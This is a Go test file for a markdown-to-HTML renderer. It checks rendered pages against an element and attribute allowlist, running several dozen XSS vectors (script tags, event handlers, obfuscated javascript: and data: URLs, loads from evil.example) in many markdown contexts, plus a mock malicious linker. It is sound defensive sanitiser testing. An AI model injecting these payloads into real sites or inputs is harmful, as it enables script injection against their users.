package markdown

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"playbook/generator/diag"
)

// allowed is every element we write, with its attributes.
var allowed = map[string][]string{
	"a":          {"aria-label", "class", "data-preview", "href", "rel", "role", "title"},
	"blockquote": nil, "br": nil, "hr": nil, "p": {"class"}, "pre": {"tabindex"}, "code": {"class"},
	"em": nil, "strong": nil, "del": nil, "sup": {"id"}, "span": {"class", "title"},
	"h1": {"id"}, "h2": {"id"}, "h3": {"id"}, "h4": {"id"}, "h5": {"id"}, "h6": {"id"},
	"ul": nil, "ol": {"start"}, "li": {"class", "id"}, "input": {"aria-label", "checked", "disabled", "type"},
	"dl": nil, "dt": nil, "dd": nil,
	"div":   {"aria-label", "class", "role", "tabindex"},
	"table": nil, "thead": nil, "tbody": nil, "tr": nil, "th": {"class", "scope"}, "td": {"class"},
	"section": {"class", "role"},
	"img":     {"alt", "decoding", "loading", "src", "title"},
	"figure":  nil, // of caseLinker
}

var void = []string{"br", "hr", "img", "input"}

// checkHTML looks for anything in page that is not ours, not closed, or twice.
func checkHTML(page string) error {
	var open []string
	ids, targets := map[string]bool{}, []string(nil)
	z := html.NewTokenizer(strings.NewReader(page))
	for z.Next() != html.ErrorToken {
		tok := z.Token()
		switch tok.Type {
		case html.StartTagToken:
			attrs, ok := allowed[tok.Data]
			if !ok {
				return fmt.Errorf("element %s", tok)
			}
			if tok.Data == "a" && slices.Contains(open, "a") {
				return fmt.Errorf("link in a link: %s", tok)
			}
			for _, a := range tok.Attr {
				if err := checkAttr(tok, a, attrs); err != nil {
					return err
				}
				if a.Key == "id" {
					if ids[a.Val] {
						return fmt.Errorf("id %s twice", a.Val)
					}
					ids[a.Val] = true
				}
				if strings.HasPrefix(a.Val, "#fn") && a.Key == "href" {
					targets = append(targets, a.Val[1:])
				}
			}
			if !slices.Contains(void, tok.Data) {
				open = append(open, tok.Data)
			}
		case html.EndTagToken:
			if len(open) == 0 || open[len(open)-1] != tok.Data {
				return fmt.Errorf("%s closes %v", tok, open)
			}
			open = open[:len(open)-1]
		case html.SelfClosingTagToken, html.CommentToken, html.DoctypeToken:
			return fmt.Errorf("token %s", tok)
		}
	}
	if len(open) > 0 {
		return fmt.Errorf("not closed: %v", open)
	}
	return checkNotes(ids, targets)
}

// checkNotes makes sure that footnotes and their uses lead to each other. A link
// of an author's may look like one of them.
func checkNotes(ids map[string]bool, targets []string) error {
	if !ids["fn-1"] {
		return nil
	}
	for _, id := range targets {
		if !ids[id] && (strings.HasPrefix(id, "fnref-") || strings.HasPrefix(id, "fn-")) && !strings.Contains(id, "x") {
			return fmt.Errorf("no id %s", id)
		}
	}
	return nil
}

func checkAttr(tok html.Token, a html.Attribute, allowed []string) error {
	if !slices.Contains(allowed, a.Key) {
		return fmt.Errorf("attribute %s of %s", a.Key, tok)
	}
	if a.Key != "href" && a.Key != "src" {
		return nil
	}
	// As a browser would: without the characters it drops.
	address := strings.ToLower(strings.TrimSpace(strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(a.Val)))
	scheme, _, ok := strings.Cut(address, ":")
	if ok && !strings.ContainsAny(scheme, "/?#") && !slices.Contains([]string{"http", "https", "mailto", "tel"}, scheme) {
		return fmt.Errorf("scheme of %s", tok)
	}
	if strings.HasPrefix(address, "//") || strings.ContainsAny(address, "\\\x00") || a.Key == "src" && ok && !strings.ContainsAny(scheme, "/?#") {
		return fmt.Errorf("address of %s", tok)
	}
	return nil
}

// vectors are ways to get a script into a page, by what they misuse.
var vectors = map[string][]string{
	"element": {
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</script>`,
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)">x</a></svg>`,
		`<math href="javascript:alert(1)">x</math>`, `<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`<object data="javascript:alert(1)">`, `<embed src="data:text/html,<script>alert(1)</script>">`, `<base href="javascript:/a/">`,
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<link rel=stylesheet href=//evil.example/x.css>`,
		`<form action="javascript:alert(1)"><button>x</button></form>`, `<button formaction=javascript:alert(1)>x</button>`,
		`<style>@import "//evil.example/x.css";</style>`, `<template><script>alert(1)</script></template>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea></textarea><script>alert(1)</script>`,
		`<!--><script>alert(1)</script>-->`, `<!-- --!><script>alert(1)</script>`, `<!-- x --><img src=x onerror=alert(1)>`,
		`<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`, `<!ENTITY x "y">`,
		"<a\nhref=javascript:alert(1)>x</a>", "<img\t/src=x\t/onerror=alert(1)>",
	},
	"handler": {
		`<img src=x onerror=alert(1)>`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`, `<input autofocus onfocus=alert(1)>`,
		`<video><source onerror=alert(1)></video>`, `<a onmouseover=alert(1)>x</a>`, `<p style="background:url(javascript:alert(1))">`,
		`<div style="position:fixed;inset:0">`, `<img name=currentScript>`,
	},
	"address": {
		`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](javascript&colon;alert(1))`, `[x](javascript&#58;alert(1))`,
		`[x](javascript&#x3a;alert(1))`, `[x](java&Tab;script:alert(1))`, `[x](java&NewLine;script:alert(1))`, `[x](&#1;javascript:alert(1))`,
		`[x](&#32;javascript:alert(1))`, `[x](<javascript:alert(1)>)`, `[x](<java script:alert(1)>)`, `[x](javascript\:alert(1))`,
		`[x](java\script:alert(1))`, `[x](vbscript:msgbox(1))`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](blob:https://example.com/1)`,
		`[x](file:///etc/passwd)`, `[x](//evil.example)`, `[x](/\evil.example)`, `[x](\/evil.example)`, `[x](/&#92;evil.example)`, `[x](https:evil.example)`,
		`[x](intent:#Intent;end)`, `[x](vscode://file/x)`, `[x](ms-settings:x)`, `[x](feed:javascript:alert(1))`, `[x](view-source:javascript:alert(1))`,
		`[x](javascript%3Aalert(1))`, `[x](&#x202e;javascript:alert(1))`, `[x](java&#173;script:alert(1))`, `[x](http://&quot;onmouseover=alert(1))`,
		`<javascript:alert(1)>`, `<JAVASCRIPT:alert(1)>`, `<data:text/html,x>`, `![x](javascript:alert(1))`, `![x](data:image/svg+xml,x)`,
		`![x](//evil.example/x.png)`, `![x](https://evil.example/x.png)`, "[x][r]\n\n[r]: javascript:alert(1)\n", "[x][r]\n\n[r]: <java&#115;cript:alert(1)>\n",
		`[[javascript:alert(1)]]`, `![[javascript:alert(1)]]`, `[[//evil.example]]`, `https://example.com/"onmouseover="alert(1)`,
	},
	"attribute": {
		`[x](a.md "&quot; onmouseover=alert(1) x=&quot;")`, `[x](a.md 'x" onmouseover="alert(1)')`, `![x" onerror="alert(1)](a.png)`,
		`![x](a.png "x\" onerror=\"alert(1)")`, `![&quot; onerror=alert(1)](a.png)`, `[x](a.md#"onmouseover="alert(1))`, `[x](<a.md" onmouseover="alert(1)>)`,
		`[[a"onmouseover="alert(1)|x]]`, `[[a|"><script>alert(1)</script>]]`, "## x {onclick=alert(1)}\n", "## x {#a\"onclick=alert(1)}\n",
		"## x {style=\"position:fixed\"}\n", "## \"><script>alert(1)</script>\n", "```\"onclick=alert(1)\nx\n```\n", "```\"><script>\nx\n```\n",
		"> [!NOTE\" onclick=alert(1)]\n> x\n", "> [!NOTE] \"><script>alert(1)</script>\n> x\n", "- [ ] \" onfocus=alert(1) \"\n",
		"| \" onclick=alert(1) |\n|---|\n| x |\n", "x[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x\n", "x[^1]\n\n[^1]: <script>alert(1)</script>\n",
		"<x>\n: \"><script>alert(1)</script>\n",
	},
}

// contexts are places in a text.
var contexts = []string{
	"%s", "文字%s文字", "**%s**", "*%s", "- %s", "1. %s\n\n   %s", "> %s", "> [!NOTE]\n> %s", "> [!TRAINER] %s\n> %s",
	"## %s", "%s\n===", "| %s | %s |\n|---|---|\n| %s | %s |", "[%s](a.md)", "![%s](a.png)", "[x](%s)", "[[%s]]", "[[a|%s]]",
	"`%s`", "```\n%s\n```", "    %s", "x[^1]\n\n[^1]: %s", "t\n: %s", "<!-- %s -->", "\\%s", "&lt;%s", "<b>%s</b>",
}

// TestVectors puts every vector into every context. The Linker leads wherever the
// author says, which no real one does.
func TestVectors(t *testing.T) {
	n := 0
	for category, list := range vectors {
		for _, vector := range list {
			for _, context := range contexts {
				src := strings.ReplaceAll(context, "%s", vector)
				doc, found := Parse("x.md", []byte(src))
				for _, v := range []View{{}, {Trainer: true}} {
					if err := checkHTML(render(t, doc, v)); err != nil {
						t.Errorf("%s: %v in %q", category, err, src)
					}
				}
				checkSpans(t, found, doc, src)
				n++
			}
		}
	}
	if n < 2000 {
		t.Errorf("only %d texts", n)
	}
}

// TestLinkerIsNotTrusted makes sure that not even a Linker can write a script.
func TestLinkerIsNotTrusted(t *testing.T) {
	doc, _ := Parse("x.md", []byte("[a](b.md) [[c]] ![d](e.png) 峰终定律\n\n![[f]]\n"))
	got := renderWith(t, doc, evil{doc}, View{})
	if err := checkHTML(got); err != nil {
		t.Errorf("%v\n%s", err, got)
	}
}

type evil struct{ doc *Doc }

func (evil) target() Target {
	return Target{URL: "javascript:alert(1)", Title: `"><script>`, Class: `"><script>`, Preview: `"><script>`}
}

func (e evil) Link(Link) (Target, bool) { return e.target(), true }

func (e evil) Mentions() []Mention {
	p := e.doc.Passages[len(e.doc.Passages)-1]
	bad, good := e.target(), e.target()
	good.URL = `"><script>`
	return []Mention{
		{Start: -5, End: 2, Target: bad},
		{Start: p.Start, End: p.Start + 3, Target: bad},
		{Start: p.Start + 3, End: p.Start + 6, Target: good},
		{Start: p.Start + 4, End: p.Start + 8, Target: good},
		{Start: p.Start + 6, End: 10_000, Target: good},
	}
}

func checkSpans(t *testing.T, found diag.List, doc *Doc, src string) {
	t.Helper()
	inside := func(what string, s diag.Span) {
		if s.Start < 0 || s.Start > s.End || s.End > len(src) {
			t.Errorf("%s: span %d–%d of %d bytes in %q", what, s.Start, s.End, len(src), src)
		}
	}
	for _, d := range found {
		inside(d.Rule.Name, d.Span)
		for _, s := range d.Others {
			inside(d.Rule.Name, s)
		}
	}
	for _, l := range doc.Links {
		inside("link", l.Span)
	}
	for _, h := range doc.Outline {
		inside("heading", h.Span)
	}
	last := 0
	for _, p := range doc.Passages {
		if p.Start < last || p.Start+len(p.Text) > len(src) || src[p.Start:p.Start+len(p.Text)] != p.Text {
			t.Errorf("passage %q at %d of %q", p.Text, p.Start, src)
			continue
		}
		last = p.Start + len(p.Text)
		if p.Block[p.Offset:p.Offset+len(p.Text)] != p.Text || p.Section > len(doc.Outline) {
			t.Errorf("passage %+v", p)
		}
	}
}
